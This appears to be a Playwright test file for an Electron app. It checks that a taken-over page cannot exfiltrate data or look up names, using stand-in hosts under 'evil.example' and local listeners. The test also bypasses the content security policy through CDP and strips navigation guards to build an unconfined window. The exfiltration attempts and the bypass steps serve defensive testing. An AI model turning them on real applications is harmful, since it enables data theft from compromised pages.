/** @file A page that is taken over reaches no host: every way is tried against listeners of its own, and Chromium's log shows no look-up. */
import type { ElectronApplication } from '@playwright/test'
import type { RunningApp } from '../harness/app'
import type { Listeners } from '../harness/listeners'
import path from 'node:path'
import { typeCredentials } from '../harness/user'
import { expect, test } from '../harness/fixtures'
import { startListeners } from '../harness/listeners'
import { resolvedNames, netLogSwitches } from '../harness/net-log'
import { tryWay, ways } from '../harness/exfiltration'

const names = [...ways.keys()]
const hostOf = (kind: string, way: string) => `${kind}-${way}.evil.example`

/** Where a way is tried: in the page, in the page without its policy, and in a window that nothing confines. */
type Kind = 'page' | 'bare' | 'open'

const pageId = (electron: ElectronApplication): Promise<number> =>
  electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.id ?? 0)

async function tryAll({ electron }: RunningApp, id: number, listeners: Listeners, kind: Kind): Promise<void> {
  for (const way of names) {
    await tryWay(electron, id, way, { host: '127.0.0.1', port: listeners.port(`${kind} ${way}`) })
    await tryWay(electron, id, way, { host: hostOf(kind, way), port: listeners.port(`${kind} ${way}`) })
  }
}

/** Loads the page again without its policy. */
async function dropPolicy({ page }: RunningApp): Promise<void> {
  const session = await page.context().newCDPSession(page)
  await session.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.getByRole('navigation').waitFor()
  expect(await page.evaluate(() => fetch('data:text/plain,x').then(answer => answer.text()))).toBe('x')
}

/** Tries all of them in a window that nothing confines: what arrives from there proves that it could have arrived. */
async function tryUnconfined(electron: ElectronApplication, listeners: Listeners): Promise<void> {
  const id = await electron.evaluate(({ app, BrowserWindow }) => {
    // After the app's own listener; also for the windows that this one opens.
    app.on('web-contents-created', (_event, contents) => {
      for (const event of ['will-navigate', 'will-frame-navigate'] as const) contents.removeAllListeners(event)
      contents.setWindowOpenHandler(() => ({ action: 'allow' }))
      contents.setWebRTCIPHandlingPolicy('default')
    })
    return new BrowserWindow({ show: false, webPreferences: { partition: 'unconfined' } }).webContents.id
  })
  for (const way of names) {
    await electron.evaluate(({ webContents }, [page, address]) => webContents.fromId(page)?.loadURL(address), [id, `http://127.0.0.1:${listeners.port('start')}/`] as const)
    for (const host of [hostOf('open', way), '127.0.0.1']) await tryWay(electron, id, way, { host, port: listeners.port(`open ${way}`) })
    // These do nothing but look names up.
    if (!unreached.includes(way)) await expect.poll(() => listeners.reached(), way).toContain(`open ${way}`)
  }
}

/** In Electron a hint to connect early connects to nothing. */
const unreached = ['dns-prefetch', 'preconnect']

/** What looks nothing up in the unconfined window either: the app turns the first four off for every window, the others end before. */
const unseen = ['dns-prefetch', 'webrtc-stun', 'webrtc-turn', 'webrtc-peer', 'preconnect', 'speculation', 'identity']

test('a page that is taken over reaches no host and looks no name up, with its policy and without', async ({ cloud, folder, launch }) => {
  test.setTimeout(180_000)
  const listeners = await startListeners(['start', ...(['page', 'bare', 'open'] as const).flatMap(kind => names.map(way => `${kind} ${way}`))])
  const log = path.join(folder, 'net-log.json')
  const app = await launch({ switches: [...cloud.switches, ...netLogSwitches(log)] })
  const id = await pageId(app.electron)
  await tryAll(app, id, listeners, 'page')
  await dropPolicy(app)
  await tryAll(app, id, listeners, 'bare')
  await tryUnconfined(app.electron, listeners)
  expect(listeners.reached().filter(name => !name.startsWith('open '))).toEqual(['start'])
  // The page was not led away.
  expect(await app.electron.evaluate(({ webContents }, page) => webContents.fromId(page)?.getURL(), id)).toMatch(/^xdr-desk:\/\/app\/index\.html(?:#|$)/)
  app.ignoreErrors(/./)
  await app.close()
  await listeners.close()

  const lookedUp = [...resolvedNames(log)].filter(name => name.endsWith('.evil.example'))
  // Chromium also asks for the HTTPS record of a port, as `_8080._https.NAME`.
  expect(lookedUp.filter(name => !/(?:^|\.)open-/.test(name))).toEqual([])
  const seen = names.filter(way => !unseen.includes(way))
  expect(seen.filter(way => !lookedUp.includes(hostOf('open', way)))).toEqual([])
})

test('the system\'s proxy is main\'s alone', async ({ cloud, launch }) => {
  const listeners = await startListeners(['proxy'])
  // Its names are the proxy's to know, as in proxy.spec.ts.
  const app = await launch({ switches: [...cloud.trustSwitches, `--proxy-server=127.0.0.1:${listeners.port('proxy')}`] })
  await dropPolicy(app)
  const answer = await app.page.evaluate(() => fetch('http://proxied.evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked'))
  expect(answer).toBe('blocked')
  expect(listeners.reached()).toEqual([])
  await typeCredentials(app.page, cloud)
  await expect.poll(() => listeners.reached(), { timeout: 30_000 }).toEqual(['proxy'])
  app.ignoreErrors(/Content-Security-Policy|ERR_BLOCKED_BY_CLIENT/)
  await app.close()
  await listeners.close()
})
